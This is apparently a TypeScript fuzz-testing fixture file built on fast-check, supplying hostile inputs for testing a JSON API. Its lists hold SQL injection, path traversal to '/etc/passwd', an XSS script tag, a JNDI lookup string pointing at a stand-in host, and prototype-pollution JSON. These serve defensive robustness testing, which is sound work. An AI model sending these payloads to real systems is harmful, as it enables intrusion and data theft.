import fc from 'fast-check';

/**
 * Values a careless client, a broken one or an attacker sends: Unicode edge cases, control characters,
 * injection and traversal attempts, numbers at and past every limit.
 */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31m',
  '\uD800',
  '\uDFFF',
  'a\uD800b',
  '\uDC00\uD800',
  '\u202Eevil\u202C',
  '\u200F\u0627\u0644\u0639\u0631\u0628\u064A\u0629',
  '\u200B',
  'a\u200Db',
  '\uFEFF',
  '\u00A0\u2028\u2029',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '\uD83D\uDE00'.repeat(50),
  'e\u0301',
  'cafe\u0301',
  'Ａｄａ',
  'ǅ',
  'İı',
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  '$1',
  "\\'",
  '%00',
  '%',
  '%%32%65',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//',
  '/internal/users',
  '{{7*7}}',
  '${jndi:ldap://x.example/a}',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '-1',
  '0',
  '1.5',
  '1e3',
  '0x10',
  ' 2',
  '99999999999999999999',
  'x'.repeat(2049),
  'y'.repeat(5001),
];

/** A short string from anywhere in Unicode, lone surrogates included, or one of the known troublemakers. */
export const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }).map((text) => text.normalize('NFD')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }) },
);

export const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0, -0, 1.5, 2 ** 31, 2 ** 53 + 2, -(2 ** 63), 1e308, -1e308, 5e-324),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, kept small. */
export const anyJson = fc.jsonValue({ maxDepth: 3 });

/** Text sent as a JSON body that no JSON parser accepts. */
export const NOT_JSON = [
  '{',
  '}',
  '{"a":',
  "{'content':'x'}",
  '{"content":"x",}',
  '[1,]',
  'NaN',
  'Infinity',
  'undefined',
  '0x10',
  '{"a":1}{"b":2}',
  '\u0000',
  'content=x',
  '<xml/>',
  '{"content":"\u0000\n"}',
  '"unterminated',
];

/**
 * Raw JSON texts that parse, but hurt careless code: deep nesting, overflowing numbers, duplicate keys, prototype keys.
 */
export const AWKWARD_JSON = [
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  '1e999',
  '-1e999',
  '123456789012345678901234567890',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":1,"a":2,"a":[3]}',
  '"\\ud800"',
  '"\\u0000"',
];

/** Bytes that are not UTF-8 at all, inside an otherwise JSON-looking body. */
export const BROKEN_UTF8 = [
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0xae, 0x22, 0x7d]),
  Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
];

/** Content types a JSON-only API must refuse with 415 (`undefined`: a body with no Content-Type at all). */
export const WRONG_CONTENT_TYPES = [
  undefined,
  'text/plain',
  'text/html',
  'text/json',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=fuzz',
  'application/octet-stream',
  'image/png',
  'application/javascript',
];

/** Every byte of the UTF-8 percent-encoded: lone surrogates too (as U+FFFD), which encodeURIComponent refuses. */
export const percentEncoded = (value: string) =>
  [...Buffer.from(value, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

/** Path segments that are broken as URLs: bad escapes, encoded NUL, overlong and surrogate UTF-8, dot segments. */
export const BROKEN_SEGMENTS = [
  '%',
  '%zz',
  '%E0%A4%A',
  '%ED%A0%80',
  '%C0%AE%C0%AE',
  '%FF%FE',
  '%00',
  '..',
  '.',
  '%2e%2e',
  '%2E',
  '..%2f..%2finternal',
  '%252e%252e',
  'caf\u00e9',
  '\u00ff\u00fe',
];

/**
 * One path segment or query value for `value`: percent-encoded as a client would, every byte encoded,
 * or as it is where it is safe raw (never `/`, `?`, `#` or `%`, which would change which route is meant).
 */
export function encodings(value: string): fc.Arbitrary<string> {
  const options = [fc.constant(percentEncoded(value))];
  try {
    options.push(fc.constant(encodeURIComponent(value)));
  } catch {
    // A lone surrogate: only the byte-wise form exists.
  }
  if (/^[\u0021-\u00ff]*$/.test(value) && !/[/?#%]/.test(value)) options.push(fc.constant(value));
  return fc.oneof(...options);
}

/**
 * A JSON text `levels` objects and arrays deep around `inner`, in one of the shapes a hostile body takes:
 * arrays (two bytes a level, 30,000 levels in 60 KB), objects, or the two in turn.
 */
export function nestedJson(levels: number, shape: 'arrays' | 'objects' | 'mixed', inner = '1'): string {
  if (shape === 'arrays') return `${'['.repeat(levels)}${inner}${']'.repeat(levels)}`;
  if (shape === 'objects') return `${'{"a":'.repeat(levels)}${inner}${'}'.repeat(levels)}`;
  const pairs = Math.floor(levels / 2);
  const odd = levels % 2 === 1;
  return `${'{"a":['.repeat(pairs)}${odd ? '[' : ''}${inner}${odd ? ']' : ''}${']}'.repeat(pairs)}`;
}

/** Many members side by side, each shallow: an object with thousands of keys, or an array of thousands of items. */
export const wideJson = fc.oneof(
  fc
    .integer({ min: 100, max: 4_000 })
    .map((keys) => Object.fromEntries(Array.from({ length: keys }, (_, index) => [`k${index}`, index]))),
  fc.integer({ min: 100, max: 20_000 }).map((items) => Array.from({ length: items }, () => 0)),
  fc
    .integer({ min: 100, max: 2_000 })
    .map((items) => Array.from({ length: items }, (_, index) => ({ [`k${index % 7}`]: [index] }))),
);

/**
 * `body` written as JSON text with every key repeated: first with `decoy`, then (as JSON.parse keeps the
 * last) with its value, or the other way round; and sometimes one key repeated thousands of times.
 */
export function repeatedKeysJson(
  body: Record<string, unknown>,
  decoy: unknown,
  lastWins: boolean,
  floodKey?: string,
): string {
  const member = (key: string, value: unknown) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`;
  const flood = floodKey === undefined ? [] : Array.from({ length: 3_000 }, (_, index) => member(floodKey, index));
  const members = Object.entries(body).flatMap(([key, value]) =>
    lastWins ? [member(key, decoy), member(key, value)] : [member(key, value), member(key, decoy)],
  );
  return `{${[...flood, ...members].join(',')}}`;
}
